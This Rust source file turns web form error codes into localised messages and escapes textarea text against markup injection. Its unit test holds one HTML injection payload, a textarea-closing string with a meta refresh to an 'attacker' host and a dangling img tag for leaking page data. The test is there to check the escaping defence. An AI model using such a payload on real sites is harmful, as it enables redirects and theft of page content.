//! Safe text for the plain HTML forms: what a refused post's error codes say, and a
//! textarea's initial text.

use crate::api::form_redirect::FormError;
use crate::domain::{DESCRIPTION_MAX_CHARS, NOTE_MAX_CHARS, REMARK_MAX_CHARS};
use crate::i18n::*;

/// The sentence for `error` in the reader's language (locales/*/forms.json). The page words
/// every error itself: a URL carries only the code.
pub fn form_error_text(i18n: leptos_i18n::I18nContext<Locale>, error: FormError) -> String {
    match error {
        FormError::RemarkTooLong => tu_string!(i18n, forms.remark_too_long, max = REMARK_MAX_CHARS).to_string(),
        FormError::DescriptionTooLong => tu_string!(i18n, forms.description_too_long, max = DESCRIPTION_MAX_CHARS).to_string(),
        FormError::RemarkAndDescriptionEmpty => tu_string!(i18n, forms.remark_and_description_empty).to_string(),
        FormError::NoteEmpty => tu_string!(i18n, forms.note_empty).to_string(),
        FormError::NoteTooLong => tu_string!(i18n, forms.note_too_long, max = NOTE_MAX_CHARS).to_string(),
        FormError::FormExpired => tu_string!(i18n, forms.form_expired).to_string(),
        FormError::NotFailed => tu_string!(i18n, forms.not_failed).to_string(),
        FormError::NoWriteTarget => tu_string!(i18n, forms.no_write_target).to_string(),
        FormError::UsernameInvalid => tu_string!(i18n, forms.username_invalid).to_string(),
        FormError::DisplayNameInvalid => tu_string!(i18n, forms.display_name_invalid).to_string(),
        FormError::PasswordInvalid => tu_string!(i18n, forms.password_invalid).to_string(),
        FormError::WecomIdInvalid => tu_string!(i18n, forms.wecom_id_invalid).to_string(),
        FormError::UsernameTaken => tu_string!(i18n, forms.username_taken).to_string(),
        FormError::SelfLockout => tu_string!(i18n, forms.self_lockout).to_string(),
        FormError::Invalid => tu_string!(i18n, forms.invalid).to_string(),
        FormError::Unauthenticated => tu_string!(i18n, forms.unauthenticated).to_string(),
        FormError::Forbidden => tu_string!(i18n, forms.forbidden).to_string(),
        FormError::NotFound => tu_string!(i18n, forms.not_found).to_string(),
        FormError::VendorAuthRejected => tu_string!(i18n, forms.vendor_auth_rejected).to_string(),
        FormError::VendorRateLimited => tu_string!(i18n, forms.vendor_rate_limited).to_string(),
        FormError::VendorNotFound => tu_string!(i18n, forms.vendor_not_found).to_string(),
        FormError::VendorInvalidInput => tu_string!(i18n, forms.vendor_invalid_input).to_string(),
        FormError::VendorUnavailable => tu_string!(i18n, forms.vendor_unavailable).to_string(),
        FormError::VendorUnsupported => tu_string!(i18n, forms.vendor_unsupported).to_string(),
        FormError::Internal => tu_string!(i18n, forms.internal).to_string(),
        FormError::Unknown => tu_string!(i18n, forms.unknown).to_string(),
    }
}

/// Every error's sentence, one after another.
pub fn form_errors_text(i18n: leptos_i18n::I18nContext<Locale>, errors: &[FormError]) -> Option<String> {
    (!errors.is_empty()).then(|| errors.iter().map(|e| form_error_text(i18n, *e)).collect::<Vec<_>>().join(" "))
}

/// A `<textarea>`'s initial text, ready to be its child. tachys writes textarea children
/// without escaping (the element is declared like `<script>` and `<style>`), so text such as
/// `</textarea><meta …>` would end the element and become markup. The content of a textarea
/// is escapable raw text: entities are decoded, so escaping `&` and `<` (and `>`) gives the
/// browser exactly `text` back. A leading line break would be swallowed by the HTML parser,
/// so one more goes first. Hydration never touches textarea children; the islands set the
/// value through `prop:value`.
pub fn textarea_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    if text.starts_with('\n') || text.starts_with('\r') {
        out.push('\n');
    }
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn textarea_text_cannot_close_the_element() {
        let hostile = "</textarea><meta http-equiv=\"refresh\" content=\"0;url=http://attacker/\"><img src=\"http://x/leak?";
        let out = textarea_text(hostile);
        assert!(!out.contains('<') && !out.contains('>'), "{out}");
        assert_eq!(out.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"), hostile);
        assert_eq!(textarea_text("a &lt; b"), "a &amp;lt; b", "an entity typed by the rep stays text");
        assert_eq!(textarea_text("\n第二行"), "\n\n第二行");
    }
}
